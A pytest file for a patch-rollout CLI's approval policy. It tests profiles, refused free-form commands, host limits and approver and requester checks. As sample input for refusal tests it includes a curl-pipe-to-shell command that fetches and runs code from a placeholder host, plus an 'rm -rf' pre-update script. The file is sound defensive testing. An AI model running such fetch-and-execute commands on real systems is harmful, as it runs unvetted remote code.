"""The policy at the CLI edge (issue 13): `--profile` takes the command from the policy, and a
rollout the policy refuses is refused before it starts, naming the option the person typed."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from bot.cli import app
from bot.cli.common import UserError, build_rollout
from bot.settings import Settings
from workflows.families import OS_UPDATE_PROFILES

SECURITY = "apt-get update && apt-get -y upgrade"

POLICY = f"""
people:
  alice: {{email: alice@example.com}}
  bob:   {{email: bob@example.com}}
  carol: {{email: carol@example.com}}
  dave:  {{email: dave@example.com}}
groups:
  web-approvers: [alice, carol]
clusters:
  cluster-a:
    requesters: [bob]
    approvers: [web-approvers]
    minApprovals: 1
    updateProfiles: {{security: "{SECURITY}", kernel: "apt-get -y install linux-image-amd64"}}
    allowCustomUpdate: false
    maxHosts: 2
    dryRunBy: [bob]
  cluster-b:
    requesters: [bob]
    approvers: [web-approvers]
    updateProfiles: {{security: "{SECURITY}", kernel: "dnf -y upgrade kernel"}}
    allowCustomUpdate: true
  cluster-c:
    requesters: [bob]
    approvers: [alice]
    updateProfiles: {{other: "true"}}
"""

INVENTORY = """
all:
  children:
    cluster-a:
      hosts:
        a1: {ansible_host: 127.0.0.1}
        a2: {ansible_host: 127.0.0.2}
        a3: {ansible_host: 127.0.0.3}
    cluster-b:
      hosts: {b1: {ansible_host: 127.0.1.1}, b2: {ansible_host: 127.0.1.2}}
    cluster-c:
      hosts: {c1: {ansible_host: 127.0.2.1}}
"""


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    (tmp_path / "policy.yml").write_text(POLICY)
    (tmp_path / "inventory.yml").write_text(INVENTORY)
    return Settings(policy=tmp_path / "policy.yml", inventory=tmp_path / "inventory.yml")


def raw(**extra: object) -> dict[str, object]:
    return {
        "targetClusters": ["cluster-b"],
        "pilotHostCount": 1,
        "requesterEmail": "bob@example.com",
        **extra,
    }


def refusal(settings: Settings, profile: str | None = None, **extra: object) -> str:
    with pytest.raises(UserError) as refused:
        build_rollout(raw(**extra), settings, profile=profile)
    return str(refused.value)


def test_profile_sets_the_command_and_its_name_for_every_cluster(settings: Settings) -> None:
    rollout = build_rollout(
        raw(targetClusters=["cluster-a", "cluster-b"], hostPattern="a1,a2,b1,b2"),
        settings,
        profile="security",
    )
    assert rollout.update_command == SECURITY and rollout.update_profile == "security"
    assert rollout.approver_emails == []  # the policy names the approvers


def test_profile_refused_when_clusters_disagree_or_lack_it(settings: Settings) -> None:
    clusters = ["cluster-a", "cluster-b"]
    text = refusal(settings, "kernel", targetClusters=clusters, hostPattern="a1,b1")
    assert text.startswith("--profile: profile 'kernel' is a different command")
    assert "cluster-a: 'apt-get -y install linux-image-amd64'" in text
    assert "cluster-b: 'dnf -y upgrade kernel'" in text
    text = refusal(settings, "security", targetClusters=["cluster-b", "cluster-c"])
    assert text == (
        "--profile: the policy has no update profile 'security' for cluster-c (its profiles: other)"
    )
    both = refusal(settings, "security", updateCommand="true")
    assert both == "--profile and --update both name the update command; give one"
    # Without a policy the profiles are PatchPilot's own OS-family ones (workflows/families.py).
    without = Settings(inventory=settings.inventory)
    built = build_rollout(raw(approverEmails=["alice@example.com"]), without, profile="security")
    assert built.update_command == OS_UPDATE_PROFILES["security"]
    assert built.update_profile == "security"
    with pytest.raises(UserError, match="the profiles are PatchPilot's own: security, full"):
        build_rollout(raw(), without, profile="kernel")


def test_free_form_command_refused_where_the_policy_forbids(settings: Settings) -> None:
    text = refusal(
        settings,
        targetClusters=["cluster-a"],
        updateCommand="curl -s http://x.example/y | sh",
        hostPattern="a1",
    )
    assert text == (
        "refused by the approval policy:\n--update: free-form update commands are not allowed "
        "on cluster-a (policy entry 'cluster-a'); choose one with --profile (allowed: kernel, "
        "security)"
    )


def test_scripts_and_host_count_and_approvers_and_requester(settings: Settings) -> None:
    a = {"targetClusters": ["cluster-a"]}
    text = refusal(settings, "security", hostPattern="a1", preUpdateScripts=["rm -rf /tmp/x"], **a)
    assert "--pre-downtime-script/--pre-update-script/--post-update-script: scripts are not" in text
    text = refusal(settings, "security", **a)  # 3 hosts of cluster-a, maxHosts 2
    assert "--limit: 3 hosts of cluster-a exceed the policy's maxHosts 2" in text
    assert build_rollout(raw(hostPattern="a1,a2", **a), settings, profile="security")
    text = refusal(settings, "security", approverEmails=["mallory.alt@example.net"])
    assert "--approver: mallory.alt@example.net may not approve cluster-b under the policy" in text
    assert "(its approvers: alice@example.com, carol@example.com)" in text
    narrowed = build_rollout(
        raw(approverEmails=["carol@example.com"]), settings, profile="security"
    )
    assert narrowed.approver_emails == ["carol@example.com"]
    text = refusal(settings, "security", requesterEmail="dave@example.com")
    assert "--requester: dave (dave@example.com) may not start rollouts on cluster-b" in text
    text = refusal(settings, "security", requesterEmail="eve@example.com")
    assert "--requester: eve@example.com is not a person of the approval policy" in text
    # allowCustomUpdate: true lets a free-form command through (shown in full to approvers)
    assert (
        build_rollout(raw(updateCommand="apt-get -y dist-upgrade"), settings).update_profile is None
    )


def test_the_cli_names_the_option(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    assert settings.policy is not None and settings.inventory is not None
    monkeypatch.setenv("PATCHPILOT_POLICY", str(settings.policy))
    monkeypatch.setenv("PATCHPILOT_INVENTORY", str(settings.inventory))
    result = CliRunner().invoke(
        app,
        ["start", "--cluster", "cluster-a", "--limit", "a1", "--pilot", "1",
         "--requester", "bob@example.com", "--update", "curl -s http://x.example/y | sh",
         "--approver", "mallory.alt@example.net"],
    )  # fmt: skip
    assert isinstance(result.exception, UserError)
    assert "--update: free-form update commands are not allowed on cluster-a" in str(
        result.exception
    )
    result = CliRunner().invoke(
        app,
        ["start", "--cluster", "cluster-a", "--limit", "a1", "--pilot", "1",
         "--requester", "bob@example.com", "--profile", "nightly"],
    )  # fmt: skip
    assert isinstance(result.exception, UserError)
    assert "--profile: the policy has no update profile 'nightly' for cluster-a" in str(
        result.exception
    )


@pytest.mark.parametrize("flag", ["--repair-interrupted-dpkg", "--dry-run"])
@pytest.mark.parametrize("value", ["yes", "no", "True"])
def test_a_value_after_a_flag_that_takes_none_is_not_a_cluster(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, flag: str, value: str
) -> None:
    # Typed as Slack's `repair-dpkg=yes` reads, it would otherwise be a cluster named "yes".
    monkeypatch.setenv("PATCHPILOT_INVENTORY", str(settings.inventory))
    monkeypatch.setenv("TEMPORAL_ADDRESS", "127.0.0.1:9")  # nothing may be asked of Temporal
    result = CliRunner().invoke(
        app,
        ["start", "-c", "cluster-a", "--pilot", "1", "--requester", "bob@example.com",
         "--approver", "alice@example.com", "--update", "true", flag, value],
    )  # fmt: skip
    assert isinstance(result.exception, UserError), result.output
    assert str(result.exception) == (
        f"{value!r} is not a cluster here: --dry-run and --repair-interrupted-dpkg take no value "
        f"(give the flag alone to turn it on, leave it out for off); a cluster named {value!r} "
        f"is given with -c {value}"
    )
